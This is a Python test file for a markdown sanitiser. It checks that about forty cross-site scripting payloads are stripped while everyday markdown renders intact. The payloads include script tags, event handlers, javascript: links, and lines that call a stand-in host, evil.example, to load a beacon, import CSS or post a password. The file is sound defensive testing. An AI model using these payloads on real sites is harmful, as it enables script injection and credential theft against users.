"""Markdown of strangers: a corpus of attacks, and the everyday text that must survive."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from quorate.toolkit import markdown

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/beacon.gif)",
    "![x](//evil.example/beacon.gif)",
    '![x" onerror="alert(1)](/a.png)',
    '[x](https://a.example "onmouseover=alert(1)")',
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<form action=https://evil.example><input name=password></form>",
    "<base href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<object data=x></object><embed src=x>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "```<img src=x onerror=alert(1)>\n<script>alert(1)</script>\n```",
    '```js" onclick="alert(1)\nx\n```',
    "`<script>alert(1)</script>`",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "# <img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    '<a href="https://a.example" target=_blank onclick=alert(1)>x</a>',
    "<div id=main><h1>Taken over</h1></div>",
    '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
]
ALLOWED = markdown.TAGS
ATTRIBUTES = {"href", "title", "src", "alt", "start", "class", "align", "rel"}


class Reader(HTMLParser):
    """Collects what is wrong with some HTML."""

    def __init__(self) -> None:
        super().__init__()
        self.wrong: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ALLOWED:
            self.wrong.append(f"<{tag}>")
        for name, value in attrs:
            if name not in ATTRIBUTES:
                self.wrong.append(f"{tag} {name}")
            if name in ("href", "src"):
                address = (value or "").strip().lower()
                if ":" in address.split("/")[0] and not address.startswith(("http:", "https:", "mailto:")):
                    self.wrong.append(address)
            if name == "src" and not (value or "").startswith("/"):
                self.wrong.append(f"a picture from {value}")


def faults(html: str) -> list[str]:
    reader = Reader()
    reader.feed(html)
    reader.close()
    return reader.wrong


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_attack_gets_through(attack: str) -> None:
    assert faults(markdown.render(attack)) == []
    assert faults(markdown.inline(attack)) == []


@settings(max_examples=150)
@given(st.lists(st.sampled_from([*ATTACKS, "\n\n", "> ", "- ", "**", "`", "[", "](", ")", "<", ">", '"']), max_size=8))
def test_no_mixture_of_attacks_gets_through(parts: list[str]) -> None:
    assert faults(markdown.render("".join(parts))) == []


def test_everyday_text_survives() -> None:
    html = markdown.render(
        "# Goal\n\nA *good* **text** with `code`, ~~a slip~~ and [a link](https://a.example/x?a=1&b=2).\n\n"
        "1. one\n2. two\n\n> said\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n```python\nx = 1 < 2\n```\n"
    )
    for expected in (
        "<h3>Goal</h3>",
        "<em>good</em>",
        "<strong>text</strong>",
        "<s>a slip</s>",
        'href="https://a.example/x?a=1&amp;b=2"',
        'rel="nofollow noopener"',
        "<li>one</li>",
        "<blockquote>",
        "<td",
        'class="language-python"',
        "1 &lt; 2",
    ):
        assert expected in html


def test_headings_never_outrank_the_page() -> None:
    html = markdown.render("## one\n\n###### two\n\n### three\n\n# four")
    assert "<h3>one</h3>" in html
    assert "<h4>two</h4>" in html
    assert "<h4>three</h4>" in html
    assert "<h3>four</h3>" in html


def test_the_words_alone() -> None:
    assert markdown.plain("**Fish** & [chips](https://a.example)") == "Fish & chips"
    assert markdown.plain("one two three four", limit=10) == "one two…"
